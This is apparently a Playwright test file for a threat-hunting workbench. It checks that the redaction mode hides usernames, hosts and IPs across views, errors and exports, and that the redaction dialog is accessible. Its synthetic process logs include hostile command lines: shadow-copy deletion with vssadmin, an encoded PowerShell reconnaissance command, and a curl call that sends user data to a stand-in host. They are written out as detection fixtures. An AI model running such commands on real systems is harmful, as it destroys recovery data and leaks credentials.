import AxeBuilder from '@axe-core/playwright';
import { readFileSync, writeFileSync } from 'node:fs';
import type { Page, TestInfo } from '@playwright/test';
import { leaksIn, leaksOnPage } from './fixtures/originals';
import { type Script, script } from './fixtures/script';
import type { WorkbenchPage } from './fixtures/workbench';
import { expect, test } from './fixtures/workbenchTest';

const NAMES = ['mbjornsen', 'QXZ-WS-17', 'tveiten', 'aasgaard', '10.44.3.21', 'fjordlines'];

/** The names, and what begins like one: the part of a name that was cut. */
const ORIGINALS = NAMES.flatMap((name) =>
  Array.from({ length: name.length - 3 }, (_, i) => name.slice(0, i + 4)),
).filter((part) => part !== '10.4');

const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

/** A command whose name stands at each place around the given one, so that a cut there goes through it. */
function commandsAround(characters: number): string[] {
  return Array.from({ length: 9 }, (_, i) => {
    const lead = 'cmd.exe /c vssadmin delete shadows /all /quiet & echo ';
    return `${lead}${'x'.repeat(characters - lead.length - i)} FJORDLINES\\mbjornsen on \\\\QXZ-WS-17\\c$`;
  });
}

function files(testInfo: TestInfo): string[] {
  const write = (name: string, lines: readonly string[] | string): string => {
    const path = testInfo.outputPath(name);
    writeFileSync(path, typeof lines === 'string' ? lines : `${lines.join('\n')}\n`);
    return path;
  };
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  const at = (second: number): string =>
    `2026-03-09 0${Math.floor(second / 60) + 1}:00:${String(second % 60).padStart(2, '0')}`;
  const commands = [
    ...commandsAround(120),
    ...commandsAround(200),
    `powershell -enc ${wide('Copy-Item \\\\QXZ-WS-17\\c$\\Users\\mbjornsen\\a b; whoami; net use')}`,
    'curl https://h.example/?u=mbjornsen%40fjordlines.example&p=C%3A%5CUsers%5Caasgaard%5Cx',
    'C:\\Users\\tveiten.FJORDLINES\\run.exe ::ffff:10.44.3.21 10.44.3.21:445 10.44.3.0/24',
    `echo {"u":"FJORDLINES\\\\mbjornsen"} > /home/mbjornsen/x`,
  ];
  return [
    write('QXZ-WS-17_of_mbjornsen.csv', [
      'timestamp,host,user,source_ip,status,logon_type',
      `${at(1)},QXZ-WS-17.fjordlines.example,FJORDLINES\\mbjornsen,10.44.3.21,FAILURE,3`,
      `${at(2)},QXZ-WS-17,MBJORNSEN@fjordlines.example,10.44.3.21,SUCCESS,3`,
      `at noon of mbjornsen from QXZ-WS-17 and so on as it was,QXZ-WS-17,mbjornsen,,SUCCESS,3`,
      'mbjornsen,QXZ-WS-17',
    ]),
    write('process_logs.csv', [
      'timestamp,host,user,process_name,parent_process,arguments',
      ...commands.map(
        (text, i) => `${at(i)},QXZ-WS-17,mbjornsen,cmd.exe,explorer.exe,${quoted(text)}`,
      ),
    ]),
    write('letter of aasgaard.pdf', '%PDF-1.7\n\u0000\u0001'),
  ];
}

async function expectClean(page: Page, where: string): Promise<void> {
  await expect
    .poll(() => leaksOnPage(page, ORIGINALS), { message: `names shown in ${where}` })
    .toEqual([]);
}

async function openRedacted(workbench: WorkbenchPage, testInfo: TestInfo): Promise<Page> {
  test.setTimeout(120_000);
  const paths = files(testInfo);
  await workbench.openReady();
  const { page } = workbench;
  await page.evaluate((parts) => {
    const look = (): void => {
      // Without the packed engine, which is most of the body.
      const drawn = [...document.body.children].filter(({ tagName }) => tagName !== 'SCRIPT');
      const text = [document.title, ...drawn.map((element) => element.outerHTML)].join(' ');
      const lower = text.toLowerCase();
      for (const part of parts) {
        const at = lower.indexOf(part.toLowerCase());
        if (at < 0) continue;
        Object.assign(globalThis, { seen: text.slice(Math.max(0, at - 60), at + 60) });
      }
    };
    new MutationObserver(look).observe(document.body, {
      subtree: true,
      childList: true,
      characterData: true,
      attributes: true,
    });
  }, NAMES);
  await page.getByTestId('redaction-switch').click();
  await expect(page.getByTestId('redaction-switch')).toHaveText('Redacted');
  await workbench.drop(...paths);
  await expect(page.getByTestId('intake-row')).toHaveCount(3);
  await expect
    .poll(
      () => script(page, (huntbench: Script) => huntbench.findings().map(({ huntId }) => huntId)),
      { timeout: 120_000 },
    )
    .toContain('recovery-inhibition');
  return page;
}

test('no name is shown at any moment of the loading, nor part of one afterwards', async ({
  workbench,
}, testInfo) => {
  const page = await openRedacted(workbench, testInfo);
  await expectClean(page, 'evidence');
  await expect(page.getByTestId('intake-row').filter({ hasText: 'file 3' })).toBeVisible();
  await expect(
    page.getByTestId('intake-row').filter({ hasText: /HOST-\d\d_of_USER-\d\d\.csv/ }),
  ).toBeVisible();
  for (const row of await page.getByTestId('intake-row').all()) {
    await row.click();
    await expectClean(page, 'the details of a file');
    await page.keyboard.press('Escape');
  }
  await page.getByTestId('place-coverage').click();
  await expectClean(page, 'coverage');
  await page.getByTestId('place-runbook').click();
  await page.getByTestId('runbook-findings').click();
  await expect(page.getByTestId('finding-row').first()).toBeVisible();
  await expectClean(page, 'findings');
  const hit = await script(page, (huntbench: Script) => [
    ...new Set(huntbench.findings().map((finding) => finding.huntId)),
  ]);
  expect(hit).toContain('recovery-inhibition');
  await page.getByTestId('runbook-hunts').click();
  for (const id of hit) {
    await page.getByTestId(`hunt-card-${id}`).getByRole('button').first().click();
    for (const tab of ['SQL', 'In your SIEM']) {
      await page.getByRole('tab', { name: tab }).click();
      await expectClean(page, `${tab} of ${id}`);
    }
    await page.keyboard.press('Escape');
  }
  expect(await page.evaluate(() => Reflect.get(globalThis, 'seen') as unknown)).toBeUndefined();
});

test('an error that quotes a name, and the SQL around it, show none', async ({
  workbench,
}, testInfo) => {
  const page = await openRedacted(workbench, testInfo);
  await page.getByTestId('redaction-switch').click();
  await page.getByTestId('place-sql').click();
  const editor = page.getByTestId('sql-editor').getByRole('textbox');
  await editor.click();
  await page.keyboard.press('Control+a');
  await page.keyboard.insertText(
    "select host, 'mbjornsen'::integer as number, 'and then on and on and on' as more from process_logs where host = 'QXZ-WS-17' and arguments like '%FJORDLINES%' and mbjornsen_column > 5 and host <> 'mbjornsen and QXZ-WS-17 too'",
  );
  await page.getByTestId('sql-run').click();
  await expect(page.getByText(/mbjornsen_column/).last()).toBeVisible();
  await page.getByTestId('redaction-switch').click();
  await expectClean(page, 'an error');
});

test('no file that leaves holds a name or part of one', async ({ workbench }, testInfo) => {
  const page = await openRedacted(workbench, testInfo);
  const saved = async (label: string): Promise<{ name: string; text: string }> => {
    const downloading = page.waitForEvent('download');
    await page.keyboard.press('Control+k');
    await page.getByPlaceholder('Type a command').fill(label);
    await expect(page.getByRole('dialog').locator('[data-action]')).toHaveText(label);
    await page.keyboard.press('Enter');
    const download = await downloading;
    await expect(page.getByRole('dialog')).toHaveCount(0);
    return {
      name: download.suggestedFilename(),
      text: readFileSync(await download.path(), 'utf8'),
    };
  };
  for (const label of [
    'Export the ledger of all files as JSON',
    'Export the ledger of all files as CSV',
    'Export the report as one HTML file',
  ]) {
    const { name, text } = await saved(label);
    expect(text.length, name).toBeGreaterThan(100);
    expect(leaksIn(`${name}\n${text}`, ORIGINALS), name).toEqual([]);
    for (const [run] of text.matchAll(/[A-Za-z0-9+/]{40,}={0,2}/g)) {
      expect(leaksIn(Buffer.from(run, 'base64').toString('utf16le'), ORIGINALS)).toEqual([]);
    }
  }
});

test('the redaction dialog works by keyboard alone and is accessible at each step', async ({
  workbench,
}, testInfo) => {
  const page = await openRedacted(workbench, testInfo);
  const dialog = page.getByRole('dialog', { name: 'Redaction' });
  const check = async (): Promise<void> => {
    await expect(dialog).toHaveCSS('opacity', '1');
    const { violations } = await new AxeBuilder({ page })
      .withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'])
      .analyze();
    expect(violations.map((v) => [v.id, v.nodes[0]?.html])).toEqual([]);
  };
  const tabTo = async (name: string): Promise<void> => {
    const target = dialog.getByRole('button', { name, exact: true });
    for (let i = 0; i < 20 && !(await target.evaluate((e) => e === document.activeElement)); i++) {
      await page.keyboard.press('Tab');
    }
    await expect(target).toBeFocused();
  };
  await page.getByRole('button', { name: 'Redaction settings' }).focus();
  await page.keyboard.press('Enter');
  await expect(dialog).toContainText('Machines');
  await expect
    .poll(() => dialog.evaluate((element) => element.contains(document.activeElement)))
    .toBe(true);

  const words = dialog.getByLabel('Further words, one a line');
  for (let i = 0; i < 10 && !(await words.evaluate((e) => e === document.activeElement)); i++) {
    await page.keyboard.press('Tab');
  }
  await expect(words).toBeFocused();
  await page.keyboard.type('Operation Kelp');
  await page.keyboard.press('Enter');
  await page.keyboard.type('203.0.113.0/24');
  await tabTo('Redact these too');
  await page.keyboard.press('Enter');
  await expect(words).toBeFocused();
  await expect(words).toHaveValue('');
  await expect(dialog.getByText('NAME-01')).toBeVisible();
  await check();

  await tabTo('Do not redact NAME-01');
  await page.keyboard.press('Enter');
  await expect(words).toBeFocused();
  await expect(dialog.getByText('NAME-01')).toBeHidden();

  await tabTo('Export the key…');
  await page.keyboard.press('Enter');
  await expect(dialog.getByRole('button', { name: 'Cancel' })).toBeFocused();
  await check();
  await page.keyboard.press('Enter');
  await expect(dialog.getByRole('button', { name: 'Export the key…' })).toBeFocused();
  await page.keyboard.press('Enter');
  await tabTo('Save the key as CSV');
  const downloading = page.waitForEvent('download');
  await page.keyboard.press('Enter');
  const key = readFileSync(await (await downloading).path(), 'utf8');
  expect(key).toMatch(/USER-\d\d,user,mbjornsen/i);
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await expect(page.getByRole('button', { name: 'Redaction settings' })).toBeFocused();
});
